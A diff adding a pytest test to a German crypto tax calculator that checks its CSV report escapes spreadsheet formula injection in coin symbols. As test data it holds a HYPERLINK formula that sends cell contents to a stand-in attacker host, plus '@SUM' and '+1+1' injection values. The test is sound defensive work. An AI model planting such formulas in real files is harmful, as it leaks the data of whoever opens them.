@@ -2,6 +2,7 @@
 app's own importer (the path `kryptowelt import_prices` takes). The price histories here are
 synthetic (generated or made up in this file)."""
 
+import csv
 import datetime as dt
 import io
 import math
@@ -253,6 +254,58 @@ def test_tax_csv_download(client):
     assert "2024;2620,15;-103,04;2517,11;1000,00;2517,11;1985,76;334,50;334,50" in text
     assert ";5;15.03.2024;Verkauf;BTC;0,05;;2;15.03.2023;Kauf;366;nein;" in text
     assert ";6;16.03.2024;Verkauf;BTC;0,05;;2;15.03.2023;Kauf;367;ja;" in text
+
+
+def _csv_cells(response) -> list[list[str]]:
+    text = response.content.decode("utf-8").removeprefix("\ufeff")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_tax_csv_download_neutralises_formulas_in_coin_symbols_but_keeps_negative_numbers(
+    client,
+):
+    # A hostile upload: coin symbols that a spreadsheet would run as formulas, and a sale at
+    # a loss so that the report has negative amounts of its own.
+    hyperlink = '=HYPERLINK("http://boese.example/?d="&A1;"Details")'
+    quoted = hyperlink.replace('"', '""')
+    data = (
+        "Datum;Typ;Coin;Menge;Preis_EUR;Gebuehr_EUR;Ziel_Coin;Ziel_Menge\n"
+        f'01.02.2024;Kauf;"{quoted}";1;100;;;\n'
+        f'01.03.2024;Verkauf;"{quoted}";1;50;;;\n'
+        "01.02.2024;Kauf;@SUM(1+1);2;10;;;\n"
+        "05.02.2024;Tausch;@SUM(1+1);1;10;;-5;3\n"
+        "06.02.2024;Staking;+1+1;1;3;;;\n"
+        "07.02.2024;Verkauf;-5;1;4;;;\n"
+    ).encode()
+    upload = io.BytesIO(data)
+    upload.name = "boese.csv"
+    response = client.post("/rechner/steuer/", {"datei": upload, "ausgabe": "csv"})
+    assert response.status_code == 200
+    cells = _csv_cells(response)
+    # 2024: gain 4 − 10/3 on the "-5" coins, loss −50 on the first sale, staking 3 €.
+    assert cells[2] == [
+        "2024",
+        "0,67",
+        "-50,00",
+        "-49,33",
+        "1000,00",
+        "-49,33",
+        "0,00",
+        "3,00",
+        "0,00",
+    ]
+    detail = {(row[1], row[3]): row for row in cells if len(row) == 15 and row[1].isdigit()}
+    sale = detail[("3", "Verkauf")]
+    assert sale[4] == "'" + hyperlink.upper()  # text, not a formula
+    assert sale[12:] == ["50,00", "100,00", "-50,00"]  # our own numbers stay numbers
+    swap = detail[("5", "Tausch")]
+    assert swap[4] == "'@SUM(1+1)" and swap[6] == "3 -5"
+    staking = detail[("6", "Staking (§ 22 Nr. 3 EStG)")]
+    assert staking[4] == "'+1+1" and staking[12] == "3,00"
+    sale_of_swapped = detail[("7", "Verkauf")]  # the "-5" coins the swap bought
+    assert sale_of_swapped[4] == "'-5"
+    body = response.content.decode("utf-8")
+    assert "\n=" not in body and ";=" not in body and ";@" not in body and ";+" not in body
 
 
 def test_result_page_hands_the_data_back_for_print_and_csv(client):
